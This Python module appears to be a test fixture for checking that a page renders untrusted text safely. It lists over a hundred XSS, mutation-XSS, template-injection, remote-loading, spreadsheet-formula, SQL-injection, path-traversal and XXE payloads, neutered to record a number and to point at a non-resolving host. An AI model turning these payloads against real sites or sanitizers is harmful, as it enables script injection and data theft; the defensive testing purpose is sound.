"""Texts that do something when a page takes them for more than text: over a hundred, each another one.

What they do is seen: they note their number in `top.__pwned`, load from `REMOTE`, or leave an element of the
class `hostile`. `SEEN` is what a page must say of itself when none of them was taken for more than text.
"""

REMOTE = "http://tracker.invalid/"  # a name that leads nowhere

_JS = "top.__pwned.push({n})"
_MARK = "class=hostile id=hostile-{n}"

# {js}: notes the number · {mark}: makes the element findable · {url}: would be asked for
_RUNNING = [
    "<img src=x onerror={js} {mark}>",
    '<img src="x" onerror="{js}" {mark}>',
    "<img/src='x'/onerror='{js}' {mark}>",
    "<IMG SRC=x ONERROR={js} {mark}>",
    '"><img src=x onerror={js} {mark}>',
    "'><img src=x onerror={js} {mark}>",
    "--><img src=x onerror={js} {mark}>",
    "</textarea><img src=x onerror={js} {mark}>",
    "</title><img src=x onerror={js} {mark}>",
    "</style><img src=x onerror={js} {mark}>",
    "</script><img src=x onerror={js} {mark}>",
    "<script {mark}>{js}</script>",
    "<ScRiPt {mark}>{js}</sCrIpT>",
    "<script {mark}>{js}//",
    "</p><script {mark}>{js}</script>",
    "<svg onload={js} {mark}>",
    "<svg/onload={js} {mark}>",
    "<svg {mark}><script>{js}</script></svg>",
    "<svg {mark}><animate onbegin={js} attributeName=x dur=1s>",
    "<svg {mark}><set onbegin={js} attributeName=x dur=1s>",
    "<svg {mark}><image href=x onerror={js}>",
    "<svg {mark}><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math {mark}><mtext></mtext><img src=x onerror={js}></math>",
    "<body onload={js} {mark}>",
    "<input autofocus onfocus={js} {mark}>",
    "<textarea autofocus onfocus={js} {mark}></textarea>",
    "<select autofocus onfocus={js} {mark}></select>",
    "<div tabindex=1 autofocus onfocus={js} {mark}>x</div>",
    "<details open ontoggle={js} {mark}>x</details>",
    "<video src=x onerror={js} {mark}></video>",
    "<video {mark}><source src=x onerror={js}></video>",
    "<audio src=x onerror={js} {mark}></audio>",
    "<object data=x onerror={js} {mark}></object>",
    "<iframe srcdoc='<script>{js}</script>' {mark}></iframe>",
    '<iframe src="javascript:{js}" {mark}></iframe>',
    "<iframe onload={js} {mark}></iframe>",
    '<embed src="javascript:{js}" onload={js} {mark}>',
    "<link rel=stylesheet href=x onerror={js} {mark}>",
    "<style onload={js} {mark}></style>",
    "<style onload='{js}' {mark}>@keyframes x{{}}</style>",
    "<img srcset=x onerror={js} {mark}>",
    "<picture><source srcset=x><img src=x onerror={js} {mark}></picture>",
    "<p {mark}><img src=`x` onerror={js}></p>",
    "<noscript><p title=\"</noscript><img src=x onerror={js} {mark}>\">",
    "<svg><style><img src=x onerror={js} {mark}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1&gt;' src=x onerror={js} {mark}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js} {mark}>",
    "<table><tr><td><img src=x onerror={js} {mark}></table>",
    "<xss {mark} onpointerrawupdate={js}><img src=x onerror={js}></xss>",
    "<dialog open {mark}><img src=x onerror={js}></dialog>",
    "<marquee onstart={js} {mark}>x</marquee><img src=x onerror={js}>",
    "<a {mark} href=x><img src=x onerror={js}></a>",
    "<template {mark}></template><img src=x onerror={js}>",
    "<img src=x onerror=\"Function('{js}')()\" {mark}>",
    "<img src=x onerror=eval(this.alt) alt='{js}' {mark}>",
    "<img\tsrc=x\tonerror={js}\t{mark}>",
    "<img\nsrc=x\nonerror={js}\n{mark}>",
    "<img\x0csrc=x onerror={js} {mark}>",
    "<<img src=x onerror={js} {mark}>",
    "<b {mark}>bold<img src=x onerror={js}></b>",
    "<details ontoggle={js} open {mark}><summary>x</summary></details>",
    "text before <img src=x onerror={js} {mark}> and after",
    "# Heading <img src=x onerror={js} {mark}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={js} {mark}> | x |",
    "> quoted <img src=x onerror={js} {mark}>",
    "```html\n</code></pre><img src=x onerror={js} {mark}>\n```",
]  # fmt: skip

_TEMPLATES = [
    "${{{js}}}",
    "a${{{js}}}b",
    "${{(() => {{ {js} }})()}}",
    "`${{{js}}}`",
    "`;{js};//",
    "\\`;{js};//",
    "`+({js})+`",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{#with \"s\" as |string|}}}}{{{{#with \"e\"}}}}{{{{this.pop}}}}{{{{/with}}}}{{{{/with}}}}",
    "{{{{{{value}}}}}}",
    "{{{{lookup . 'constructor'}}}}",
    "{{{{#each this}}}}{{{{@key}}}}{{{{/each}}}}",
    "{{{{> partial}}}}",
    "{{{{__proto__}}}}",
    "{{% include '/etc/passwd' %}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "[[{js}]]",
    "@{{{js}}}",
    "%{{{js}}}",
]  # fmt: skip

_LOADING = [
    "<img src={url} {mark}>",
    "<img srcset='{url} 2x' {mark}>",
    "<picture {mark}><source srcset={url}><img></picture>",
    "<video poster={url} {mark}></video>",
    "<video src={url} autoplay {mark}></video>",
    "<audio src={url} autoplay {mark}></audio>",
    "<link rel=stylesheet href={url} {mark}>",
    "<link rel=prefetch href={url} {mark}>",
    "<style {mark}>@import '{url}';</style>",
    "<style {mark}>body {{ background: url({url}) }}</style>",
    "<div style='background:url({url})' {mark}>x</div>",
    "<p style=\"content:url('{url}')\" {mark}>x</p>",
    "<iframe src={url} {mark}></iframe>",
    "<object data={url} {mark}></object>",
    "<embed src={url} {mark}>",
    "<input type=image src={url} {mark}>",
    "<svg {mark}><image href={url}></svg>",
    "<svg {mark}><use href={url}#x></svg>",
    "<body background={url} {mark}>",
    "<table background={url} {mark}><td>x</table>",
    "<track src={url} {mark}>",
    "<script src={url} {mark}></script>",
    "![picture]({url})",
    "![picture][hostile-{n}]\n\n[hostile-{n}]: {url}",
    "<meta http-equiv=refresh content='0;url={url}' {mark}>",
    "<base href={url} {mark}>",
    "<form action={url} {mark}><button autofocus>x</button></form>",
    "<a href={url} ping={url} {mark}>x</a>",
]

_OTHERS = [
    "[link](javascript:{js})",
    "<a href='javascript:{js}' {mark}>link</a>",
    "[link](data:text/html,<script>{js}</script>)",
    "<a href=\"java\tscript:{js}\" {mark}>x</a>",
    "javascript:{js}//{n}",
    "<div style='position:fixed;inset:0;z-index:9999;background:red' {mark}>overlay {n}</div>",
    "<style {mark}>* {{ display: none !important }}</style>",
    "=HYPERLINK(\"{url}\",\"{n}\")",
    "=cmd|' /C calc'!A{n}",
    "+1+cmd|'{n}'!A0",
    "-2+3+{n}",
    "@SUM(1+{n})",
    "\t=1+{n}",
    "\\frac{{1}}{{{n}}} \\u{{zz}} \\x \\input{{/etc/passwd}}",
    "$$\\href{{javascript:{js}}}{{x}}$$",
    "\\({n} \\unicode{{<img src=x onerror={js}>}}\\)",
    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe {n}\N{POP DIRECTIONAL FORMATTING}",
    "\N{WOMAN}\N{ZERO WIDTH JOINER}\N{WOMAN}\N{ZERO WIDTH JOINER}\N{GIRL} zero\N{ZERO WIDTH SPACE}width {n}",
    "&lt;img src=x onerror={js}&gt; {n}",
    "&#60;img src=x onerror={js}&#62; {n}",
    "%3Cimg%20src=x%20onerror={js}%3E {n}",
    "\\x3cimg src=x onerror={js}\\x3e {n}",
    "\\u003cimg src=x onerror={js}\\u003e {n}",
    "'; DROP TABLE chunks; -- {n}",
    "../../../../etc/passwd {n}",
    "%(path)s {{0}} {{0.__class__}} %s %n {n}",
    "\N{FULLWIDTH LESS-THAN SIGN}img src=x onerror={js}\N{FULLWIDTH GREATER-THAN SIGN} {n}",
    "e\N{COMBINING GRAVE ACCENT}\N{COMBINING ACUTE ACCENT}\N{COMBINING TILDE} {n}",
    "<![CDATA[<img src=x onerror={js} {mark}>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{url}'>]> {n}",
    "<!-- {n}",
    "__proto__ constructor toString {n}",
]  # fmt: skip


def _filled(patterns: list[str], first: int) -> list[str]:
    return [
        pattern.format(js=_JS.format(n=n), mark=_MARK.format(n=n), url=f"{REMOTE}{n}", n=n)
        for n, pattern in enumerate(patterns, first)
    ]


RUNNING = _filled(_RUNNING, 1)
LOADING = _filled(_LOADING, 201)
TEMPLATES = _filled(_TEMPLATES, 301)
OTHERS = _filled(_OTHERS, 401)
ALL = [*RUNNING, *LOADING, *TEMPLATES, *OTHERS]

# Before anything of a page: what ran, and what its policy kept from being loaded.
WATCH = """
window.__pwned = [];
window.__blocked = [];
document.addEventListener("securitypolicyviolation", (event) => window.__blocked.push(event.blockedURI));
"""
SEE = """() => ({
  ran: window.__pwned,
  blocked: window.__blocked,
  elements: [...document.querySelectorAll(".hostile, [id^=hostile]")].map((e) => e.outerHTML.slice(0, 200)),
})"""
SEEN = {"ran": [], "blocked": [], "elements": []}
